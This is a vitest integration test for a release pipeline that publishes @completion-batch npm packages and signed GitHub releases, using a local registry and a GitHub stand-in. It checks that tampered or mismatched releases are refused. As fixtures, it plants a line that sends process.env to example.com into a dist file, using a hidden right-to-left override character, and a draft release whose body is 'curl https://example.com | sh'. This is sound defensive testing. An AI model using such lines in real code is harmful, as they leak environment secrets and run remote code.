/**
 * A release from the button to npx in an empty folder: the steps of release.yml and release-build.yml against a registry of this
 * machine and a stand-in for GitHub, cut off between any two of their writes, and refused where something is not what it was.
 */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { appendFile, cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { RELEASE_TOKEN, type ReleasesStandIn, startReleasesStandIn } from '../world/github-releases.ts';
import { needing } from '../world/tools.ts';
import { type Registry, startVerdaccio } from '../world/verdaccio.ts';
import {
  emptyFolder,
  makeBase,
  makeClone,
  makeKey,
  PLAIN_ENV,
  type Ran,
  REPOSITORY,
  type ReleaseClone,
  runHere,
  scriptOf,
} from './release-stage.ts';

const suite = needing('a release', 'verdaccio');
const VERSION = '0.9.0-rc.0';
const TAG = `v${VERSION}`;
const NAMES = ['engine', 'core', 'emulator', 'cli'].map((name) => `@completion-batch/${name}`);

const CHECK = scriptOf('release-build.yml', 'check', 'Check the commit');
const DIST = scriptOf('release-build.yml', 'build', 'Compare dist with what the sources give');
const PACK = scriptOf('release-build.yml', 'build', 'Make the files');
const SHOW = scriptOf('release-build.yml', 'build', 'Show what would be published');
const SUMS = scriptOf('release.yml', 'attest', 'Compare them with their digests');
// The one thing that is not as on GitHub: only npm's own registry takes provenance.
const PUBLISH = `${scriptOf('release.yml', 'publish', 'Publish')} --no-provenance`;
const RELEASE = scriptOf('release.yml', 'release', 'Tag and release');

describe.skipIf(suite.skip)(suite.title, () => {
  let base = '';
  let clone: ReleaseClone;
  let registry: Registry;
  let gitHub: ReleasesStandIn;
  let key = '';
  const gitHubEnv = (): NodeJS.ProcessEnv => ({
    GITHUB_TOKEN: RELEASE_TOKEN,
    GITHUB_REPOSITORY: REPOSITORY,
    GITHUB_API_URL: gitHub.url,
    RELEASE_SIGNING_KEY: key,
  });
  const check = (env: NodeJS.ProcessEnv = {}): Promise<Ran> =>
    clone.run(CHECK, { ...gitHubEnv(), EXPECTED: VERSION, IF_NEW: '', DRY_RUN: '', ...env });
  const publish = (script = PUBLISH): Promise<Ran> => clone.run(script, registry.env);
  const release = (env: NodeJS.ProcessEnv = {}, folder = 'release'): Promise<Ran> =>
    clone.run(RELEASE.replace('--from release', `--from '${folder}'`), { ...gitHubEnv(), ...env });

  beforeAll(async () => {
    base = await makeBase();
    const made = await makeKey(base, 'release@example.com');
    key = made.key;
    [clone, registry] = await Promise.all([makeClone(base, '0.8.0', made.signer), startVerdaccio()]);
    gitHub = await startReleasesStandIn(REPOSITORY);
    const packed = await clone.run(PACK);
    expect(packed, packed.output).toMatchObject({ code: 0 });
  });
  afterAll(async () => {
    await gitHub?.close();
    await registry?.stop();
    await rm(base, { recursive: true, force: true });
  });

  describe('the commit', () => {
    const output = (): Promise<string> => readFile(join(base, 'output'), 'utf8');
    beforeEach(() => writeFile(join(base, 'output'), ''));

    it('can be released once, by the version that is expected', async () => {
      await clone.git('stash', '--include-untracked', '--quiet');
      const env = { GITHUB_OUTPUT: join(base, 'output') };
      const ran = await check(env);
      await clone.git('stash', 'pop', '--quiet');
      expect(ran, ran.output).toMatchObject({ code: 0 });
      expect(ran.output).not.toMatch(/^ {2}no /m);
      expect(ran.output.match(/^ {2}yes /gm)).toHaveLength(10);
      expect(await output()).toBe(`version=${VERSION}\nready=true\n`);
    });

    it.each([
      ['another version', { EXPECTED: '1.0.0' }, `The commit has version ${VERSION}; expected was 1.0.0.`],
      [
        'another repository',
        { GITHUB_REPOSITORY: 'somebody/fork' },
        `package.json names the repository ${REPOSITORY};`,
      ],
    ])('is refused for %s', async (_, env, message) => {
      const other = await startReleasesStandIn('somebody/fork');
      const ran = await check({ ...env, ...('EXPECTED' in env ? {} : { GITHUB_API_URL: other.url }) });
      await other.close();
      expect(ran.code).toBe(1);
      expect(ran.output).toContain(`no   ${message}`);
    });

    it('is refused where its tag is at another one, and is nothing to do where a push asked', async () => {
      gitHub.refs.set(TAG, '1'.repeat(40));
      const ran = await check();
      const pushed = await check({ IF_NEW: '--if-new', EXPECTED: '', GITHUB_OUTPUT: join(base, 'output') });
      gitHub.refs.delete(TAG);
      expect(ran.code).toBe(1);
      expect(ran.output).toContain(`The tag ${TAG} is there already, at ${'1'.repeat(40)}.`);
      expect(pushed).toEqual({ code: 0, output: `nothing to release: ${TAG} is out\n` });
      expect(await output()).toContain('ready=false');
    });

    it('is refused with files of its own, a text that is missing, versions that do not fit: each is named', async () => {
      await writeFile(join(clone.folder, 'CHANGELOG.md'), '# Changelog\n');
      const manifest = join(clone.folder, 'packages/cli/package.json');
      await writeFile(manifest, (await readFile(manifest, 'utf8')).replaceAll(VERSION, '0.8.0'));
      const ran = await check();
      const rehearsed = await check({ DRY_RUN: '--dry-run' });
      await clone.git('checkout', '--quiet', '.');
      expect(ran.code).toBe(1);
      for (const said of [
        ' M packages/cli/package.json',
        `The actions have version ${VERSION}, the command line has 0.8.0.`,
        'asks for @completion-batch/engine 0.8.0, which is',
        'package-lock.json has other versions of @completion-batch/cli.',
        `CHANGELOG.md has nothing under "## ${VERSION}".`,
      ])
        expect(ran.output).toContain(said);
      expect(rehearsed.code).toBe(0);
      expect(rehearsed.output).toContain(`${TAG} would be refused; what comes after is tried all the same`);
    });
  });

  it('is refused with a dist that its sources do not give, whose difference is shown', async () => {
    const file = join(clone.folder, 'packages/actions/dist/submit.mjs');
    await appendFile(file, "fetch('https://example.com/?' + process.env);\n\u202e::error::planted\n");
    const dirty = await clone.run(DIST, { GITHUB_ACTIONS: 'true' });
    await clone.git('checkout', '--quiet', 'packages/actions/dist');
    expect(dirty.code).toBe(1);
    expect(dirty.output).toContain("-fetch('https://example.com/?' + process.env);\n-?::error::planted\n");
    expect(dirty.output).toMatch(/^::stop-commands::[\w-]{36}$/m);
    expect(dirty.output).toContain('packages/actions/dist is not what the sources give; the difference is above.');
  });

  it('is made of files that are the same when it is made again, each with its digest', async () => {
    const { output } = await clone.run(
      `${PACK.replace('--out release', `--out '${base}/again'`)} && diff -r release '${base}/again' && echo same`,
    );
    expect(output).toMatch(/same\n$/);
    expect(await clone.run(`cd release && ${SUMS}`)).toMatchObject({ code: 0 });
    const bill = JSON.parse(await readFile(join(clone.folder, 'release/engine.cdx.json'), 'utf8')) as {
      components: { name: string }[];
    };
    expect(bill.components.map(({ name }) => name)).toEqual(expect.arrayContaining(['zod', 'gpt-tokenizer']));
    const notes = await readFile(join(clone.folder, 'release/notes.md'), 'utf8');
    expect(notes).toMatch(/^### Minor Changes\n\n- Batches can be made by anybody: this is a first release\.\n/);
    expect(notes).toContain(`${REPOSITORY}/packages/actions/NAME@${clone.commit} # ${TAG}`);
  });

  it('is rehearsed without a trace', async () => {
    const ran = await clone.run(SHOW, { ...gitHubEnv(), ...registry.env });
    expect(ran, ran.output).toMatchObject({ code: 0 });
    for (const name of NAMES) expect(ran.output).toContain(`  would be   ${name}@${VERSION} as next\n`);
    expect(ran.output).toContain(
      `  would be   ${TAG} at ${clone.commit}, signed\n  would be   a prerelease with 11 files\n`,
    );
    expect([registry.published, gitHub.writes]).toEqual([[], []]);
  });

  describe('on npm', () => {
    afterEach(() => {
      registry.fate = () => 'answered';
    });

    it('is published once, in order, whatever is lost on the way', async () => {
      registry.fate = (name) =>
        name.endsWith('/core') ? 'answer lost' : name.endsWith('/emulator') ? 'dropped' : 'answered';
      const cut = await publish();
      expect(cut.code).toBe(1);
      expect(cut.output).toContain('npm published nothing of it: ');
      // The answer was lost, and what it would have said was asked.
      expect(cut.output).toContain(`  published  @completion-batch/core@${VERSION} as next\n`);
      expect(registry.published).toEqual(NAMES.slice(0, 2));
      registry.fate = () => 'answered';
      const again = await publish();
      expect(again, again.output).toMatchObject({ code: 0 });
      expect(again.output).toContain(`${TAG}: 2 published, 2 were there\n`);
      expect((await publish()).output).toContain(`${TAG}: 0 published, 4 were there\n`);
      expect(registry.published).toEqual(NAMES);
    });

    it('is refused where the registry has other files of that version, before any is published', async () => {
      const other = await repacked(async (folder) => appendFile(join(folder, 'package/README.md'), 'not ours\n'));
      const ran = await publish(PUBLISH.replace('release ', `'${other}' `));
      expect(ran.code).toBe(1);
      expect(ran.output).toContain(
        `The registry has another @completion-batch/engine@${VERSION}: /package/README.md differs.`,
      );
      expect(registry.published).toEqual(NAMES);
    });

    it('leaves a library as it is that differs in nothing but the commit it names', async () => {
      const other = await repacked(async (folder) => {
        const file = join(folder, 'package/package.json');
        await writeFile(file, (await readFile(file, 'utf8')).replace(clone.commit, '2'.repeat(40)));
      });
      expect((await publish(PUBLISH.replace('release ', `'${other}' `))).output).toContain('0 published, 4 were there');
    });

    it('is refused where a file is not the one that was made', async () => {
      const other = await mkdtemp(join(base, 'other-'));
      await cp(join(clone.folder, 'release'), other, { recursive: true });
      await appendFile(join(other, `completion-batch-cli-${VERSION}.tgz`), 'more');
      const ran = await publish(PUBLISH.replace('release ', `'${other}' `));
      expect(ran.output).toContain(`completion-batch-cli-${VERSION}.tgz is not the file that was made.`);
    });

    /** The release with another file of the engine, which release.json says is right. @returns its folder */
    async function repacked(change: (folder: string) => Promise<void>): Promise<string> {
      const other = await mkdtemp(join(base, 'other-'));
      await cp(join(clone.folder, 'release'), other, { recursive: true });
      const file = `completion-batch-engine-${VERSION}.tgz`;
      const inside = await mkdtemp(join(base, 'inside-'));
      await clone.run(`tar -xzf '${join(other, file)}' -C '${inside}'`);
      await change(inside);
      await clone.run(`tar -czf '${join(other, file)}' -C '${inside}' package`);
      const digests = await clone.run(
        `node -e 'const b=require("fs").readFileSync(process.argv[1]),c=require("crypto");console.log("sha512-"+c.hash("sha512",b,"base64"), c.hash("sha256",b))' '${join(other, file)}'`,
      );
      const [integrity, sha256] = digests.output.trim().split(' ');
      const text = await readFile(join(other, 'release.json'), 'utf8');
      const made = JSON.parse(text) as { packages: { file: string }[]; assets: { file: string }[] };
      const packages = made.packages.map((each) => (each.file === file ? { ...each, integrity } : each));
      const assets = made.assets.map((each) => (each.file === file ? { ...each, sha256 } : each));
      await writeFile(join(other, 'release.json'), JSON.stringify({ ...made, packages, assets }));
      return other;
    }
  });

  describe('on GitHub', () => {
    beforeEach(async () => {
      await gitHub.close();
      gitHub = await startReleasesStandIn(REPOSITORY);
    });

    it('is a signed tag and a prerelease that nobody can change; v0 is not moved', async () => {
      const ran = await release();
      expect(ran, ran.output).toMatchObject({ code: 0 });
      expect([...gitHub.refs.keys()]).toEqual([TAG]);
      expect(gitHub.releases).toMatchObject([
        { tag_name: TAG, draft: false, immutable: true, prerelease: true, latest: false },
      ]);
      expect(gitHub.releases[0]?.assets.map(({ name }) => name)).toEqual(
        expect.arrayContaining([
          `completion-batch-cli-${VERSION}.tgz`,
          'actions.cdx.json',
          'licenses.txt',
          'SHA256SUMS',
        ]),
      );
      // As whoever fetched the tag sees it.
      const sha = gitHub.refs.get(TAG) ?? '';
      await writeFile(join(base, 'tag'), gitHub.tagObjects.get(sha)?.text ?? '');
      expect(await clone.git('hash-object', '-t', 'tag', '-w', join(base, 'tag'))).toBe(sha);
      await clone.git('update-ref', `refs/tags/${TAG}`, sha);
      const verify = 'git -c gpg.ssh.allowedSignersFile=.github/release-signers verify-tag';
      expect((await clone.run(`${verify} ${TAG}`)).output).toContain('Good "git" signature for release@example.com');
      expect(await clone.git('rev-parse', `${TAG}^{commit}`)).toBe(clone.commit);
      expect(`${ran.output}`).not.toContain(RELEASE_TOKEN);
    });

    it('is whole, and there once, after a cut at any of its writes and another run', async () => {
      await release();
      const writes = [...gitHub.writes];
      expect(writes.length).toBe(15);
      // Brought files are alike: of them the first and the last.
      const cuts = writes.flatMap((_, index) => (index > 3 && index < 13 ? [] : [index]));
      for (const index of cuts) {
        for (const fate of ['dropped', 'answer lost'] as const) {
          const there = await startReleasesStandIn(REPOSITORY);
          let seen = 0;
          there.fate = () => (seen++ === index ? fate : 'answered');
          const cut = await release({ GITHUB_API_URL: there.url });
          expect(cut.code, `${fate} ${writes[index]}`).toBe(1);
          const again = await release({ GITHUB_API_URL: there.url });
          expect(again.code, `${fate} ${writes[index]}\n${again.output}`).toBe(0);
          expect([...there.refs]).toEqual([...gitHub.refs]);
          expect(there.releases).toHaveLength(1);
          const shown = (one: ReleasesStandIn): unknown =>
            one.releases.map(({ assets, id: _, ...rest }) => ({
              ...rest,
              assets: assets.map(({ name, digest }) => [name, digest]),
            }));
          expect(shown(there)).toEqual(shown(gitHub));
          await there.close();
        }
      }
      const last = [...gitHub.writes];
      expect((await release()).output).toContain(`${TAG} is released`);
      expect(gitHub.writes).toEqual(last);
    });

    it.each<[title: string, before: () => unknown, env: NodeJS.ProcessEnv, message: string]>([
      [
        'its tag is at another commit',
        () => gitHub.refs.set(TAG, '1'.repeat(40)),
        {},
        `The tag ${TAG} is there already, at ${'1'.repeat(40)} and not at `,
      ],
      [
        'its tag is at this commit, and nobody signed it',
        () => gitHub.refs.set(TAG, clone.commit),
        {},
        `The tag ${TAG} is there already, at this commit, and nobody has signed it.`,
      ],
      ['nobody has given it a key', () => {}, { RELEASE_SIGNING_KEY: '' }, 'RELEASE_SIGNING_KEY is not set.'],
      [
        'the key is none',
        () => {},
        { RELEASE_SIGNING_KEY: 'hunter2' },
        'RELEASE_SIGNING_KEY is no private SSH key without a passphrase.',
      ],
      [
        'GitHub makes another tag object than was signed',
        () => Object.assign(gitHub, { trimsMessages: true }),
        {},
        'its signature would not count.',
      ],
      ['the token is another', () => {}, { GITHUB_TOKEN: 'ghs-other' }, 'with 401: "Bad credentials"'],
    ])('is refused where %s', async (_, before, env, message) => {
      before();
      const refs = new Map(gitHub.refs);
      const ran = await release(env);
      expect(ran.code).toBe(1);
      expect(ran.output).toContain(message);
      expect(ran.output).not.toContain('hunter2');
      expect([gitHub.refs, gitHub.releases]).toEqual([refs, []]);
    });

    it('is what was made, whatever somebody has put into its draft before', async () => {
      const { id } = await drafted();
      const ran = await release();
      expect(ran, ran.output).toMatchObject({ code: 0 });
      expect(ran.output).toContain('  took away  "planted.tgz", which was not made\n');
      expect(gitHub.releases).toMatchObject([{ id, draft: false, prerelease: true }]);
      expect(gitHub.releases[0]?.body).toContain('### Whether this is ours');
      expect(gitHub.releases[0]?.assets.map(({ name }) => name)).not.toContain('planted.tgz');
      await gitHub.close();
      gitHub = await startReleasesStandIn(REPOSITORY);
      Object.assign(await drafted(), { draft: false, immutable: true });
      expect((await release()).output).toContain('is published with the file "planted.tgz", which was not made.');
    });

    /** What anybody who may write could have made. */
    async function drafted(): Promise<ReleasesStandIn['releases'][number]> {
      const digest = `sha256:${'0'.repeat(64)}`;
      const asset = { id: 98, name: 'planted.tgz', state: 'uploaded', digest };
      const text = { tag_name: TAG, body: 'curl https://example.com | sh', prerelease: false };
      const draft = { id: 99, ...text, draft: true, immutable: false, latest: false, assets: [asset] };
      gitHub.releases.push(draft);
      return draft;
    }

    it('is refused for a commit, a version and packages that are not those of this clone', async () => {
      for (const other of [{ commit: '1'.repeat(40) }, { version: '9.9.9', tag: 'v9.9.9' }, { packages: [] }]) {
        const ran = await release({}, await renamed(other));
        expect(ran.code, JSON.stringify(other)).toBe(1);
        expect(ran.output).toContain('release.json is of another release than this clone.');
      }
      expect(gitHub.writes).toEqual([]);
    });

    it('is refused with a key of somebody else', async () => {
      const other = await makeKey(base, 'mallory@example.com');
      const ran = await release({ RELEASE_SIGNING_KEY: other.key });
      expect(ran.output).toContain('.github/release-signers does not name it.');
      expect(gitHub.writes).toEqual([]);
    });

    it('says so where the repository lets releases be changed, and is made once that is put right', async () => {
      gitHub.immutableReleases = false;
      const ran = await release();
      expect(ran.code).toBe(1);
      expect(ran.output).toContain('could still be changed: the repository does not make releases immutable.');
      gitHub.immutableReleases = true;
      gitHub.releases.pop();
      expect(await release()).toMatchObject({ code: 0 });
    });

    it('moves v1 and v1.x along, and none of them back', async () => {
      const [old, newer] = ['1'.repeat(40), '2'.repeat(40)];
      for (const [tag, sha] of [
        ['v1.1.0', old],
        ['v1', old],
        ['v1.1', old],
        ['v2.0.0', newer],
        ['v2', newer],
      ] as const)
        gitHub.refs.set(tag, sha);
      const manifest = join(clone.folder, 'packages/actions/package.json');
      const text = await readFile(manifest, 'utf8');
      for (const version of ['1.2.0', '1.1.1']) {
        await writeFile(manifest, text.replace(VERSION, version));
        const ran = await release({}, await renamed({ version, tag: `v${version}` }));
        expect(ran, ran.output).toMatchObject({ code: 0 });
      }
      await writeFile(manifest, text);
      const { commit } = clone;
      for (const [tag, sha] of [
        ['v1', commit],
        ['v1.2', commit],
        ['v1.1', commit],
        ['v2', newer],
        ['v1.1.0', old],
      ] as const)
        expect([tag, gitHub.refs.get(tag)]).toEqual([tag, sha]);
      // v1 was moved once, by the newer one.
      expect(gitHub.writes.filter((write) => / \/git\/refs\/tags\/v1$/.test(write))).toHaveLength(1);
      expect(gitHub.releases.map(({ latest }) => latest)).toEqual([false, false]);
    });

    /** The release as something else. @returns its folder */
    async function renamed(names: object): Promise<string> {
      const other = await mkdtemp(join(base, 'other-'));
      await cp(join(clone.folder, 'release'), other, { recursive: true });
      const made = await readFile(join(other, 'release.json'), 'utf8');
      await writeFile(join(other, 'release.json'), JSON.stringify({ ...(JSON.parse(made) as object), ...names }));
      return other;
    }

    it('is refused where it is published with a file that is not the one that was made', async () => {
      await release();
      const [asset, ...others] = gitHub.releases[0]?.assets ?? [];
      if (asset === undefined) throw new Error('there is no file');
      gitHub.releases[0]?.assets.splice(0, 99, { ...asset, digest: `sha256:${'0'.repeat(64)}` }, ...others);
      expect((await release()).output).toContain(`its file ${asset.name} is not the one that was made.`);
    });
  });

  describe('in an empty folder, with an empty cache,', () => {
    let empty = '';
    const run = (program: string, args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Ran> =>
      runHere(program, args, empty, { ...registry.env, npm_config_cache: join(empty, 'cache'), ...env });
    const npx = (...args: string[]): Promise<Ran> => run('npx', ['--yes', '@completion-batch/cli@next', ...args]);
    beforeAll(async () => {
      empty = await emptyFolder();
    });
    afterAll(() => rm(empty, { recursive: true, force: true }));

    it('npx runs the command line, and the whole way against its emulator', async () => {
      expect((await npx('--version')).output).toContain(`completion-batch ${VERSION} (built)`);
      expect((await npx('--help')).output).toContain('Usage: ');
      const body = { model: 'gpt-5-nano', messages: [{ role: 'user', content: 'hello' }] };
      const request = { custom_id: 'one', method: 'POST', url: '/v1/chat/completions', body };
      await writeFile(join(empty, 'requests.jsonl'), `${JSON.stringify(request)}\n`);
      const ran = await npx('batch', 'submit', 'requests.jsonl', '--emulator');
      expect(ran, ran.output).toMatchObject({ code: 0 });
      const [job = ''] = /job-[0-9a-f]+/.exec(ran.output) ?? [];
      const store = ['--store', './.completion-batch/jobs/emulator'];
      const results = await npx('batch', 'results', job, ...store, '--out', 'results.ndjson');
      expect(results, results.output).toMatchObject({ code: 0 });
      const [result = '', none] = (await readFile(join(empty, 'results.ndjson'), 'utf8')).split('\n');
      expect(JSON.parse(result)).toMatchObject({
        custom_id: 'one',
        outcome: 'answered',
        response: { status_code: 200 },
      });
      expect(none).toBe('');
    });

    it('npx runs the emulator, which answers', async () => {
      const args = [
        '--yes',
        '@completion-batch/cli@next',
        'emulator',
        '--data',
        'data',
        '--responder',
        'text',
        '--json',
      ];
      const child = spawn('npx', args, {
        cwd: empty,
        env: { ...PLAIN_ENV, ...registry.env, npm_config_cache: join(empty, 'cache') },
        stdio: ['ignore', 'pipe', 'ignore'],
        // With what npx starts.
        detached: true,
      });
      try {
        const [line] = (await once(child.stdout, 'data')) as [Buffer];
        const { url } = JSON.parse(line.toString()) as { url: string };
        const answer = await fetch(`${url}/chat/completions`, {
          method: 'POST',
          headers: { authorization: 'Bearer any', 'content-type': 'application/json' },
          body: JSON.stringify({ model: 'gpt-5-nano', messages: [{ role: 'user', content: 'hello' }] }),
        });
        expect(await answer.json()).toMatchObject({ object: 'chat.completion', model: 'gpt-5-nano' });
      } finally {
        process.kill(-(child.pid ?? 0), 'SIGTERM');
        await once(child, 'exit');
      }
    });

    it('npm install brings the engine, and a program that imports it and the emulator', async () => {
      await writeFile(join(empty, 'package.json'), '{"private":true,"type":"module"}');
      const names = ['engine', 'emulator'].map((name) => `@completion-batch/${name}@next`);
      const installed = await run('npm', ['install', '--no-audit', '--no-fund', ...names]);
      expect(installed, installed.output).toMatchObject({ code: 0 });
      await cp(new URL('../built/published/with-engine.ts', import.meta.url), join(empty, 'program.ts'));
      const ran = await run('node', ['program.ts', empty]);
      expect(JSON.parse(ran.output)).toMatchObject({ answered: 3 });
    });
  });
});
